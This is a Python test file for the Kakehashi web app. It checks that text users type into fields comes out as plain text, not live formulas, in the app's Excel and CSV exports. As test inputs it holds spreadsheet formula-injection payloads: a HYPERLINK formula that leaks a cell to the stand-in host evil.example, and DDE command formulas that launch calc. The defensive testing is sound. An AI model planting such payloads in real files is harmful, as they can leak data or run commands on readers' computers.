"""No text typed into Kakehashi becomes a live formula in a file opened in a spreadsheet program: in .xlsx a
formula-like text is a text cell with its text kept exactly; in CSV it starts with an apostrophe (issue 16,
finding 3)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kakehashi.web.duties.exports import monthly_excel
from kakehashi.web.duties.models import DutyKind
from kakehashi.web.duties.monthly import AbsenceLine, CoverLine, DutyLine, LessonLine, Monthly, VisitLine
from kakehashi.web.testing import signed_in
from kakehashi.web.workforce.figures import Figures, Share
from kakehashi.web.workforce.views import workforce_csv

# What a spreadsheet program reads as the start of a formula (written out here, not taken from the code under test).
STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COMMAND = "=cmd|' /C calc'!A0"

# What a person can type into a one-line field: any character but the control characters other fields refuse.
typed = st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\r\n"), max_size=30)
# Text that starts like a formula about half the time.
risky = st.one_of(typed, st.tuples(st.sampled_from(STARTS), typed).map("".join))


def formula_like(text: str) -> bool:
    return text.startswith(STARTS)


def xlsx_cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def month_with(text: str) -> Monthly:
    """A month in which every free text a person typed (names, a duty's title, a school) is `text`."""
    day = dt.date(2026, 11, 2)
    report = Monthly(text, text, "board", dt.date(2026, 11, 1))
    report.visits.append(VisitLine(day, text, text, text, False, 2))
    report.lessons.append(LessonLine(day, "1", "08:50–09:40", text, text, text, text))
    report.duties.append(DutyLine(day, text, text, DutyKind.OTHER, text, text, 30, None, None))
    report.absences.append(AbsenceLine(day, text, text, text, text))
    report.covers.append(CoverLine(day, text, text, "08:50–09:40", text, text))
    return report


@settings(max_examples=40, deadline=None)
@given(text=risky)
def test_the_monthly_excel_keeps_any_typed_text_as_text_and_never_as_a_formula(text: str) -> None:
    cells = xlsx_cells(monthly_excel(month_with(text)))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    if text:
        # XML reads a carriage return as a line feed; every other character comes back as it went.
        mine = [cell for cell in cells if cell.value == text.replace("\r\n", "\n").replace("\r", "\n")]
        assert len(mine) >= 19, "each typed text comes back exactly"
        if formula_like(text):
            assert all(cell.quotePrefix for cell in mine)


@settings(max_examples=40, deadline=None)
@given(region=risky)
def test_the_workforce_csv_writes_a_formula_like_region_as_text(region: str) -> None:
    figures = Figures(participants=1, by_region=[Share(region, 1, 1)])
    cells = csv_cells(workforce_csv(figures, None).content)
    assert not [cell for cell in cells if formula_like(cell)]
    assert ("'" + region if formula_like(region) else region) in cells


@pytest.mark.django_db
def test_a_duty_titled_with_a_hyperlink_formula_reaches_the_boards_excel_as_text(published: Any) -> None:
    from kakehashi.web.duties.services import entry_add, report_approve, report_start, report_submit
    from kakehashi.web.duties.tests.helpers import visits_of

    north, _, _ = published
    alt = north.alts[0]
    alt.name = COMMAND
    alt.save()
    visit = visits_of(north.program, alt.code)[0]
    report = report_start(participant=alt, date=visit.date)
    entry_add(report=report, kind="preparation", minutes=30, title=HYPERLINK)
    report_approve(report=report_submit(report=report), user=north.users["coordinator"])

    answer = signed_in(north.users["coordinator"]).get(f"/duties/boards/{north.board.pk}/monthly.xlsx?month=2026-11")
    cells = xlsx_cells(answer.content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {HYPERLINK, COMMAND} <= {cell.value for cell in cells}


@pytest.mark.django_db
def test_an_alt_named_like_a_command_formula_reaches_week_xlsx_as_text(published: Any) -> None:
    north, _, _ = published
    alt = north.alts[0]
    alt.name = COMMAND
    alt.save()
    answer = signed_in(north.users["participant"]).get(f"/people/{alt.code}/week.xlsx")
    cells = xlsx_cells(answer.content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith(COMMAND) for cell in cells)


@pytest.mark.django_db
def test_an_origin_region_starting_with_a_formula_is_text_in_the_workforce_csv(world: Any) -> None:
    north, _, _ = world
    for alt in north.alts:
        alt.origin_region = "@SUM(1+1)*cmd|' /C calc'!A0"
        alt.save()
    answer = signed_in(north.users["coordinator"]).get(f"/workforce/?program={north.program.pk}&format=csv")
    cells = csv_cells(answer.content)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if formula_like(cell)]
